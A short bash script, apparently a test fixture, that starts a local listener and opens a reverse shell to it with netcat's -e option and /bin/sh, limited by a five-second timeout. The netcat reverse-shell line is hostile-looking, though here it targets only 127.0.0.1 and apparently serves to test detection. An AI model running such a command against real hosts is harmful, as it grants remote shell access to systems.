#!/usr/bin/env bash
# A reverse shell with netcat's -e to a local listener.
. "$(dirname "$0")/lib.sh"
port=$(free_port)
listener "$port"
timeout 5 nc.traditional -e /bin/sh 127.0.0.1 "$port" 2>/dev/null
wait
exit 0
